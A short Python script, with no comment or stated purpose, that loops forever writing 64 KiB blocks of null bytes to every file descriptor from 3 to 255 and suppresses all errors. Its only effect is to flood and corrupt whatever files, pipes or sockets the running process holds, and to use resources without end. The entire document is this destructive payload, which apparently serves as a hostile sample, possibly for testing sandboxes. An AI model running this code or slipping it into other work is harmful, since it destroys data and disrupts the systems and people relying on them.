import os

while True:
    for _descriptor in range(3, 256):
        try:
            os.write(_descriptor, b"\0" * 65536)
        except OSError:
            pass
